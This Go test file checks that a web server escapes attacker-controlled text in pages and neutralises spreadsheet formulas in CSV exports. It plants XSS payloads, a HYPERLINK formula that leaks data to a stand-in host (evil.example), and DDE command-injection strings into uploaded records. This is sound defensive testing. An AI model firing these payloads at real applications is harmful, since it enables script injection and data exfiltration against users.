package server

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"net/http"
	"net/url"
	"regexp"
	"sort"
	"strings"
	"sync"
	"testing"

	"github.com/rollcall/rollcall/internal/report"
	"github.com/rollcall/rollcall/internal/sim"
	"github.com/rollcall/rollcall/internal/store"
)

// Attacker-controlled text: names, user agents, addresses, résumé text,
// file names and every other field of the input. The payloads set
// window.__xss when they run, which the browser test checks.
var xssPayloads = []string{
	`<script>window.__xss=1</script>`,
	`"><img src=x onerror="window.__xss=1">`,
	`javascript:window.__xss=1//`,
	`=HYPERLINK("http://evil.example/?leak="&A1,"click")`,
	`'><svg onload=window.__xss=1>`,
	"+cmd|' /C calc'!A0",
	"@SUM(1+1)*cmd|' /C calc'!A0",
	"-2+3+cmd|' /C calc'!A0",
	"\u202eevil\u202c<b>bidi</b>\x1b[31m",
}

// dangerous are substrings that must never reach a page unescaped.
var dangerous = []string{"<script>window", "<img src=x", "<svg onload", "<b>bidi</b>", "\u202e", "\x1b"}

// poisonedUploads simulates an organisation and writes a payload into
// every field of its files: record i gets one in its field i mod n (JSON
// string leaves in sorted order; CSV columns), alternately replacing and
// extending the value, so that every field carries one somewhere while
// most records stay readable.
func poisonedUploads(t testing.TB, cfg sim.Config) []Upload {
	t.Helper()
	org, err := sim.Generate(cfg)
	if err != nil {
		t.Fatal(err)
	}
	var uploads []Upload
	for _, name := range org.Files() {
		if name == sim.FileTruth || name == sim.FileAllowList || name == sim.FileGitLog {
			continue
		}
		var b bytes.Buffer
		if err := org.WriteFile(name, &b); err != nil {
			t.Fatal(err)
		}
		var out []byte
		switch {
		case strings.HasSuffix(name, ".csv"):
			out = poisonCSV(t, b.Bytes())
		case strings.HasSuffix(name, ".ndjson"):
			var lines [][]byte
			for i, line := range bytes.Split(bytes.TrimSpace(b.Bytes()), []byte("\n")) {
				lines = append(lines, poisonJSON(t, line, i))
			}
			out = bytes.Join(lines, []byte("\n"))
		default:
			out = poisonDocument(t, b.Bytes())
		}
		uploads = append(uploads, Upload{Name: `<img src=x onerror="window.__xss=1">` + name, Body: bytes.NewReader(out)})
	}
	return uploads
}

func payloadFor(i int) string { return xssPayloads[i%len(xssPayloads)] }

// poisonValue replaces or extends v with record i's payload.
func poisonValue(v string, i int) string {
	if i%2 == 0 {
		return payloadFor(i / 2)
	}
	return v + payloadFor(i/2)
}

func poisonJSON(t testing.TB, rec []byte, i int) []byte {
	var v any
	if err := json.Unmarshal(rec, &v); err != nil {
		t.Fatalf("record %d: %v", i, err)
	}
	var leaves []string
	collectLeaves("", v, &leaves)
	if len(leaves) == 0 {
		return rec
	}
	sort.Strings(leaves)
	v = setLeaf("", v, leaves[i%len(leaves)], i)
	b, err := json.Marshal(v)
	if err != nil {
		t.Fatal(err)
	}
	return b
}

// poisonDocument poisons each record of a JSON document: a top-level
// array, or the array under Resources, value or items.
func poisonDocument(t testing.TB, doc []byte) []byte {
	var v any
	if err := json.Unmarshal(doc, &v); err != nil {
		t.Fatal(err)
	}
	poisonAll := func(arr []any) {
		for i, rec := range arr {
			b, _ := json.Marshal(rec)
			var nv any
			json.Unmarshal(poisonJSON(t, b, i), &nv) //nolint:errcheck // just marshalled
			arr[i] = nv
		}
	}
	switch x := v.(type) {
	case []any:
		poisonAll(x)
	case map[string]any:
		for _, k := range []string{"Resources", "value", "items"} {
			if arr, ok := x[k].([]any); ok {
				poisonAll(arr)
			}
		}
	}
	b, err := json.Marshal(v)
	if err != nil {
		t.Fatal(err)
	}
	return b
}

func collectLeaves(path string, v any, out *[]string) {
	switch x := v.(type) {
	case map[string]any:
		for k, val := range x {
			collectLeaves(path+"/"+k, val, out)
		}
	case []any:
		for i, val := range x {
			collectLeaves(path+"/"+fmt.Sprint(i), val, out)
		}
	case string:
		*out = append(*out, path)
	}
}

func setLeaf(path string, v any, target string, i int) any {
	switch x := v.(type) {
	case map[string]any:
		for k, val := range x {
			x[k] = setLeaf(path+"/"+k, val, target, i)
		}
	case []any:
		for k, val := range x {
			x[k] = setLeaf(path+"/"+fmt.Sprint(k), val, target, i)
		}
	case string:
		if path == target {
			return poisonValue(x, i)
		}
	}
	return v
}

func poisonCSV(t testing.TB, data []byte) []byte {
	rows, err := csv.NewReader(bytes.NewReader(data)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for i := 1; i < len(rows); i++ {
		j := (i - 1) % len(rows[i])
		rows[i][j] = poisonValue(rows[i][j], i-1)
	}
	var b bytes.Buffer
	w := csv.NewWriter(&b)
	w.WriteAll(rows) //nolint:errcheck // bytes.Buffer
	return b.Bytes()
}

// poisoned is one server loaded with the poisoned organisation, shared by
// the XSS and CSV tests.
var poisoned = struct {
	once sync.Once
	f    *fixture
}{}

func poisonedFixture(t *testing.T) *fixture {
	poisoned.once.Do(func() {
		tb := &sharedTB{T: t}
		f := newFixture(tb, fixtureOpts{})
		if _, err := f.srv.Ingest(context.Background(), poisonedUploads(t, testSim), true); err != nil {
			t.Fatal(err)
		}
		poisoned.f = f
	})
	if poisoned.f == nil {
		t.Fatal("the poisoned fixture failed to start")
	}
	return poisoned.f
}

var (
	tagRe  = regexp.MustCompile(`(?s)<([a-zA-Z][a-zA-Z0-9-]*)((?:[^>"']|"[^"]*"|'[^']*')*)>`)
	attrRe = regexp.MustCompile(`([^\s=/"'>]+)(?:\s*=\s*("[^"]*"|'[^']*'|[^\s>]+))?`)
	jsonRe = regexp.MustCompile(`(?s)<script type="application/json"[^>]*>(.*?)</script>`)
)

// checkInert reports markup in page that could run: unescaped payloads,
// event-handler attributes, javascript: URLs, or scripts other than the
// server's own files and JSON data blocks.
func checkInert(t *testing.T, where, page string) {
	t.Helper()
	for _, p := range inertProblems(page) {
		t.Errorf("%s: %s", where, p)
	}
}

func inertProblems(page string) []string {
	var problems []string
	add := func(format string, args ...any) { problems = append(problems, fmt.Sprintf(format, args...)) }
	for _, d := range dangerous {
		if strings.Contains(page, d) {
			add("page contains %q unescaped", d)
		}
	}
	for _, m := range tagRe.FindAllStringSubmatch(page, -1) {
		tag := strings.ToLower(m[1])
		attrs := map[string]string{}
		for _, a := range attrRe.FindAllStringSubmatch(m[2], -1) {
			name := strings.ToLower(a[1])
			val := strings.Trim(a[2], `"'`)
			attrs[name] = val
			if strings.HasPrefix(name, "on") {
				add("<%s> has an event handler attribute %s", tag, name)
			}
			if name == "href" || name == "src" || name == "action" || name == "formaction" {
				if v := strings.ToLower(strings.TrimSpace(val)); strings.HasPrefix(v, "javascript:") || strings.HasPrefix(v, "data:") {
					add("<%s %s=%q>", tag, name, val)
				}
			}
		}
		if tag == "script" && !strings.HasPrefix(attrs["src"], "/static/") && attrs["type"] != "application/json" {
			add("inline or foreign script %q", m[0])
		}
	}
	for _, m := range jsonRe.FindAllStringSubmatch(page, -1) {
		if strings.ContainsAny(m[1], "<>") {
			add("JSON data block holds raw < or >")
		}
	}
	return problems
}

func TestInertProblemsCatchesMarkup(t *testing.T) {
	for _, bad := range []string{
		`<p>hi <script>window.__xss=1</script></p>`,
		`<a href=" JavaScript:alert(1)">x</a>`,
		`<div title='x' onmouseover="go()">`,
		`<script>inline()</script>`,
		`<script type="application/json">{"a":"</b>"}</script>`,
	} {
		if len(inertProblems(bad)) == 0 {
			t.Errorf("inertProblems(%q) found nothing", bad)
		}
	}
	good := `<script src="/static/app.js" defer></script><script type="application/json" id="d">{"a":"\u003cb\u003e"}</script><a href="/people/E1">E1</a>`
	if p := inertProblems(good); len(p) > 0 {
		t.Errorf("inertProblems(good page) = %v", p)
	}
}

func TestAttackerTextIsInert(t *testing.T) {
	f := poisonedFixture(t)
	ctx := context.Background()
	admin := f.client(t).mustLogin(store.RoleAdmin)
	rep, err := report.LoadStored(ctx, f.st)
	if err != nil {
		t.Fatal(err)
	}
	if len(rep.People) == 0 || len(rep.Rejected) == 0 {
		t.Fatalf("poisoned data gave %d people and %d rejections; want both", len(rep.People), len(rep.Rejected))
	}
	// Analysts write text too: a case title and a comment.
	var caseID string
	for _, p := range rep.People[:3] {
		resp, _ := admin.post("/cases", url.Values{"subject": {"person"}, "subject_id": {p.ID}, "title": {xssPayloads[0]}}, true)
		if resp.StatusCode != http.StatusSeeOther {
			t.Fatalf("open case on %q: %s", p.ID, resp.Status)
		}
		caseID = strings.TrimPrefix(strings.Split(resp.Header.Get("Location"), "?")[0], "/cases/")
		admin.post("/cases/"+caseID+"/comments", url.Values{"body": {xssPayloads[1] + xssPayloads[4]}}, true)
	}
	pages := []string{"/", "/people", "/people?q=" + url.QueryEscape(xssPayloads[0]), "/cells", "/upload", "/cases", "/cases/" + caseID,
		"/audit", "/admin/users", "/admin/policy", "/account", "/login?next=" + url.QueryEscape(xssPayloads[2]), "/nowhere/" + url.PathEscape(xssPayloads[1])}
	for _, p := range rep.People {
		pages = append(pages, personURL(p.ID))
	}
	for _, c := range rep.Clusters {
		pages = append(pages, cellURL(c.ID))
	}
	escaped := 0
	for _, path := range pages {
		resp, body := admin.get(path)
		if resp.StatusCode != http.StatusOK && resp.StatusCode != http.StatusNotFound {
			t.Errorf("GET %s: %s", path, resp.Status)
			continue
		}
		checkInert(t, path, body)
		escaped += strings.Count(body, "&lt;script&gt;window.__xss")
	}
	t.Logf("%d pages, %d people, %d rejected records, %d escaped script payloads", len(pages), len(rep.People), len(rep.Rejected), escaped)
	if escaped == 0 {
		t.Error("no page showed an escaped payload: the test did not reach attacker text")
	}
}

func TestCSVExportNeutralisesFormulas(t *testing.T) {
	f := poisonedFixture(t)
	c := f.client(t).mustLogin(store.RoleAnalyst)
	resp, body := c.get("/api/v1/export/people.csv")
	if resp.StatusCode != http.StatusOK || !strings.HasPrefix(resp.Header.Get("Content-Type"), "text/csv") {
		t.Fatalf("export: %s %s", resp.Status, resp.Header.Get("Content-Type"))
	}
	rows, err := csv.NewReader(strings.NewReader(body)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	quoted := 0
	for i, row := range rows {
		for _, cell := range row {
			if cell != "" && strings.ContainsRune(formulaStart, []rune(cell)[0]) {
				t.Errorf("row %d: cell %q starts a formula", i, cell)
			}
			if strings.HasPrefix(cell, "'=") || strings.HasPrefix(cell, "'+") || strings.HasPrefix(cell, "'@") {
				quoted++
			}
		}
	}
	if quoted == 0 {
		t.Error("no neutralised formula in the export: the payloads did not reach it")
	}
	for in, want := range map[string]string{"=1+1": "'=1+1", "-2": "'-2", "\uFF1Dcmd": "'\uFF1Dcmd", "\t=x": "'=x", "Ada": "Ada"} {
		if got := csvCell(in); got != want {
			t.Errorf("csvCell(%q) = %q, want %q", in, got, want)
		}
	}
}
